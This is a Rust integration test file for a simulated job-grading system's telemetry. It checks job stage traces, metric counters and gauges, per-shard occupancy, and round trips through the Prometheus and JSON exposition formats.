    assert_eq!(parsed.counters, metrics.counters);
    assert_eq!(parsed.gauges.len(), metrics.gauges.len());
    assert_eq!(parsed.histograms.len(), metrics.histograms.len());
    assert_eq!(
        parsed.counter_total(names::JOBS_TOTAL),
        metrics.counter_total(names::JOBS_TOTAL)
    );
}
