//! End-to-end telemetry: drive real submissions through a deployment
//! and check that the job traces, registry snapshot, and both
//! exposition formats reflect what happened.

use rai::core::client::ProjectDir;
use rai::core::system::{RaiSystem, SystemConfig};
use rai::telemetry::{names, parse_json_snapshot, parse_prometheus, stage};

fn driven_system(jobs: usize) -> (RaiSystem, Vec<u64>) {
    let mut system = RaiSystem::new(SystemConfig {
        workers: 2,
        rate_limit: None,
        ..Default::default()
    });
    let creds = system.register_team("observed", &["ada"]);
    let mut job_ids = Vec::new();
    for _ in 0..jobs {
        let receipt = system
            .submit(&creds, &ProjectDir::sample_cuda_project())
            .expect("submission should succeed");
        assert!(receipt.success);
        job_ids.push(receipt.job_id);
    }
    (system, job_ids)
}

#[test]
fn job_traces_are_monotone_and_complete() {
    let (system, job_ids) = driven_system(3);
    for job_id in job_ids {
        let trace = system
            .telemetry()
            .job_trace(job_id)
            .expect("every job is traced");
        assert!(trace.is_monotone(), "stages out of order: {trace:?}");
        for name in [
            stage::SUBMITTED,
            stage::ENQUEUED,
            stage::DEQUEUED,
            stage::FETCHED,
            stage::BUILT,
            stage::RAN,
            stage::UPLOADED,
            stage::GRADED,
        ] {
            assert!(
                trace.stage_time(name).is_some(),
                "job {} missing stage {name}",
                trace.job_id
            );
        }
        assert!(trace.total_duration() > rai::sim::SimDuration::ZERO);
    }
}

#[test]
fn report_metrics_are_populated() {
    let (system, _) = driven_system(3);
    let metrics = system.report().metrics;

    assert_eq!(metrics.counter_total(names::JOBS_TOTAL), 3);
    assert!(!metrics.histograms_named(names::JOB_STAGE_SECONDS).is_empty());
    assert!(!metrics.histograms_named(names::JOB_TOTAL_SECONDS).is_empty());
    // Worker concurrency gauges exist for the fleet (back to 0 when idle).
    assert!(!metrics.gauges_named(names::WORKER_ACTIVE_JOBS).is_empty());
    // Broker mirror: everything published was consumed, depth gauge at 0.
    assert_eq!(metrics.gauge(names::BROKER_QUEUE_DEPTH, &[]), Some(0.0));
    assert!(metrics.counter(names::BROKER_PUBLISHED_TOTAL, &[]).unwrap() >= 3);
    // Store and db mirrors counted traffic.
    assert!(metrics.counter(names::STORE_BYTES_UPLOADED_TOTAL, &[]).unwrap() > 0);
    assert!(metrics.counter(names::DB_INSERTS_TOTAL, &[]).unwrap() > 0);
}

#[test]
fn prometheus_exposition_parses_and_matches() {
    let (system, _) = driven_system(2);
    let metrics = system.report().metrics;
    let text = rai::telemetry::render_prometheus(&metrics);

    let samples = parse_prometheus(&text).expect("exposition must parse");
    assert!(!samples.is_empty());
    let jobs: f64 = samples
        .iter()
        .filter(|s| s.name == names::JOBS_TOTAL)
        .map(|s| s.value)
        .sum();
    assert_eq!(jobs, 2.0);
    // Histogram series carry cumulative buckets plus _sum/_count.
    assert!(samples.iter().any(|s| s.name == format!("{}_count", names::JOB_STAGE_SECONDS)));
    assert!(samples
        .iter()
        .any(|s| s.labels.iter().any(|(k, _)| k == "le")));
}

#[test]
fn shard_metrics_cover_every_lock_domain() {
    let mut system = RaiSystem::new(SystemConfig {
        workers: 2,
        shards: 4,
        rate_limit: None,
        ..Default::default()
    });
    let creds = system.register_team("observed", &["ada"]);
    for _ in 0..3 {
        assert!(system
            .submit(&creds, &ProjectDir::sample_cuda_project())
            .expect("submission should succeed")
            .success);
    }
    let metrics = system.report().metrics;
    // The contended-wait counter exists (zero is fine on an idle or
    // single-core host — it only counts waits that actually blocked).
    assert!(metrics.counter(names::LOCK_WAIT_MICROS_TOTAL, &[]).is_some());
    // One occupancy gauge per shard, and they account for every chunk
    // and every document — nothing lives outside a lock domain.
    let usage = system.store().usage();
    let chunk_sum: f64 = (0..4)
        .map(|i| {
            metrics
                .gauge(names::STORE_SHARD_CHUNKS, &[("shard", &i.to_string())])
                .expect("store shard gauge exists")
        })
        .sum();
    assert_eq!(chunk_sum as u64, usage.chunks);
    assert!(chunk_sum > 0.0, "the workload stored chunks");
    let doc_counts = system.db().shard_doc_counts();
    assert_eq!(doc_counts.len(), 4);
    for (i, expect) in doc_counts.iter().enumerate() {
        let g = metrics
            .gauge(names::DB_SHARD_DOCS, &[("shard", &i.to_string())])
            .expect("db shard gauge exists");
        assert_eq!(g as u64, *expect);
    }
    // All three names survive the Prometheus round trip.
    let text = rai::telemetry::render_prometheus(&metrics);
    let samples = parse_prometheus(&text).expect("exposition must parse");
    for name in [
        names::LOCK_WAIT_MICROS_TOTAL,
        names::STORE_SHARD_CHUNKS,
        names::DB_SHARD_DOCS,
    ] {
        assert!(
            samples.iter().any(|s| s.name == name),
            "{name} missing from exposition"
        );
    }
    assert_eq!(
        samples
            .iter()
            .filter(|s| s.name == names::STORE_SHARD_CHUNKS)
            .count(),
        4,
        "one store occupancy series per shard"
    );
}

#[test]
fn json_exposition_round_trips() {
    let (system, _) = driven_system(2);
    let metrics = system.report().metrics;
    let text = rai::telemetry::render_json(&metrics);

    let parsed = parse_json_snapshot(&text).expect("JSON must parse");
    assert_eq!(parsed.counters, metrics.counters);
    assert_eq!(parsed.gauges.len(), metrics.gauges.len());
    assert_eq!(parsed.histograms.len(), metrics.histograms.len());
    assert_eq!(
        parsed.counter_total(names::JOBS_TOTAL),
        metrics.counter_total(names::JOBS_TOTAL)
    );
}
